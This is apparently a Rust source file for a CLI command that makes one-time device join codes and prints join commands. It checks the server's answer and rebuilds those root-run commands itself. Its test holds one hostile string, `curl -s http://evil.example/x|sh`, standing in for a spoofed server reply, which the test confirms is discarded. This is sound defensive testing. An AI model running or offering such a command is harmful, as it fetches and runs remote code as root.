//! `comb device code`.

use clap::Args;
use orchestrator_api::code::JoinCode;
use orchestrator_api::wire::account::{MakeDeviceCode, NewDeviceCode};
use orchestrator_api::wire::value::Hidden;

use crate::failure::{Failure, Kind, Result};
use crate::hive::HiveArgs;
use crate::hive::logins::Login;
use crate::output;
use crate::state::State;

/// Make a code by which one machine joins, within 15 minutes, and print the command for it
///
/// The code says which hive it is and lets one machine in. It opens no data: the machine asks for the passphrase of the
/// key ring on its own terminal.
#[derive(Debug, Args)]
pub struct CodeArgs {
    #[command(flatten)]
    hive: HiveArgs,

    /// What the device is called [default: the name of its machine]
    #[arg(long, value_name = "NAME")]
    name: Option<String>,

    /// The device takes updates of comb by itself, when an owner signed them
    #[arg(long)]
    auto_update: bool,

    /// Print the command that runs the device in a container
    #[arg(long, conflicts_with = "json")]
    docker: bool,

    /// Print JSON
    #[arg(long)]
    json: bool,
}

/// Makes a code.
pub fn run(state: &State, args: &CodeArgs) -> Result<()> {
    let login = args.hive.login(state)?;
    let client = args.hive.client(state)?;
    let name = args.name.as_ref().map(|name| name.parse()).transpose();
    let name = name.map_err(|error| Failure::new(Kind::Usage, format!("the device's name {error}")))?;
    let made: NewDeviceCode =
        client.post_once("/v1/device-codes", &MakeDeviceCode { name, auto_update: args.auto_update })?;
    let made = checked(&made, &login)?;
    if args.json {
        return output::json(&made);
    }
    output::line(if args.docker { made.docker.reveal() } else { made.command.reveal() })?;
    if args.docker {
        output::note(
            "the image `comb` is in no registry: on that machine, `docker build -t comb -f cli/Dockerfile DIR` in Comb's sources makes \
             it, where DIR holds the program comb",
        );
    }
    if login.hive.is_here() {
        output::note(&format!(
            "{} is this machine itself: for another one the hive listens on an address that it reaches (`comb up --listen ADDR:PORT`, `comb \
             hive run --listen`), and that one stands in the command",
            login.hive
        ));
    }
    output::note(&format!(
        "good once, until {}; run it as root on the machine that is to join{}",
        output::time_local(made.ends.0.saturating_mul(1_000_000)),
        if args.docker { "" } else { " (--docker prints the command for a container)" }
    ));
    Ok(())
}

/// What the hive made, with lines for a shell that are made here: somebody runs them as root, and of all that the hive
/// answers only the code is known to be its own.
fn checked(made: &NewDeviceCode, login: &Login) -> Result<NewDeviceCode> {
    // A device trusts the key in its code, and nothing else says which hive it joins.
    let code = JoinCode::parse(made.code.reveal())
        .map_err(|error| Failure::new(Kind::Foreign, format!("the hive's answer is no code: {error}")))?;
    let refuse = |what: String| {
        Err(Failure::new(Kind::Foreign, what).hint(
            "somebody may answer in the hive's place; if it was made anew, `comb account logout --forget`, then log in",
        ))
    };
    if code.hive != login.key.0 {
        return refuse(format!(
            "the code is not of the hive that you logged in at: its key is not {}",
            login.key
        ));
    }
    if code.id() != made.id {
        return refuse(format!("the hive's answer is about another code, {}", made.id));
    }
    let hive = login.hive.to_string();
    let hidden =
        |text: String| Hidden::new(text).map_err(|error| Failure::new(Kind::Foreign, error.to_string()));
    Ok(NewDeviceCode {
        id: made.id,
        code: hidden(code.show())?,
        ends: made.ends,
        command: hidden(code.join_command(&hive))?,
        docker: hidden(code.docker_command(&hive))?,
    })
}

#[cfg(test)]
mod tests {
    use orchestrator_api::code::Secret;
    use orchestrator_api::text::{Hex, Time};
    use orchestrator_api::wire::people::Role;

    use super::*;
    use crate::hive::address::Address;

    fn hidden(text: &str) -> Hidden {
        Hidden::new(text.to_owned()).expect("short")
    }

    fn login(key: [u8; 32]) -> Login {
        Login {
            hive: Address::parse("https://hive.example.org").expect("an address"),
            key: Hex(key),
            name: "owner".to_owned(),
            account: "Home".to_owned(),
            role: Role::Owner,
            ends: Time(0),
            insecure_http: false,
            is_of_up: false,
            token: hidden("comb_x"),
        }
    }

    #[test]
    fn nothing_that_the_hive_says_is_given_to_a_shell() {
        let code = JoinCode::new([7; 32], Secret::new([9; 20]));
        let evil = "curl -s http://evil.example/x|sh; comb device join HIVE --code x";
        let made = NewDeviceCode {
            id: code.id(),
            code: hidden(&format!(" {} ", code.show().to_lowercase())),
            ends: Time(0),
            command: hidden(evil),
            docker: hidden(evil),
        };
        let told = checked(&made, &login([7; 32])).expect("its code is well");
        let hive = "https://hive.example.org";
        assert_eq!(told.code.reveal(), code.show());
        assert_eq!(told.command.reveal(), format!("comb device join {hive} --code {}", code.show()));
        assert!(told.docker.reveal().ends_with(&format!("device run --join {hive} --code {}", code.show())));

        let foreign = checked(&made, &login([8; 32])).map(drop).expect_err("another hive's");
        assert_eq!(foreign.kind, Kind::Foreign);
        let other = NewDeviceCode { id: Hex([0; 8]), ..made };
        assert_eq!(checked(&other, &login([7; 32])).map(drop).expect_err("another code").kind, Kind::Foreign);
    }
}
